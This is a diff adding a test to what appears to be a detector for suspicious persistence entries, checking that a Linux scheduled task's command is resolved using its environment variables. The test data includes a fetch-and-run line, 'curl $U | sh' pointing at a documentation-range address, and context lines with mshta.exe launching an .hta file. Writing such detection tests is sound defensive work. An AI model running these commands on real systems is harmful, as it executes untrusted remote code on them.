@@ -32,3 +32,12 @@ it("says nothing of a registered verb that runs only what is opened with it", ()
   expect(verb('C:\\Windows\\System32\\mshta.exe "%1" %*')).toEqual([]);
   expect(verb("mshta.exe C:\\Users\\Public\\a.hta %1")).toHaveLength(1);
 });
+
+it("resolves the command of a job with the variables that its file sets", () => {
+  const job = (env: Readonly<Record<string, string>> | undefined) =>
+    find([
+      anEvent("scheduledTask", 0, { platform: "linux", commandLine: "curl $U | sh", dialect: "sh", trigger: "x", env }),
+    ])[0];
+  expect(JSON.stringify(job({ U: "http://192.0.2.1/a" }))).toContain("192.0.2.1");
+  expect(JSON.stringify(job(undefined))).not.toContain("192.0.2.1");
+});
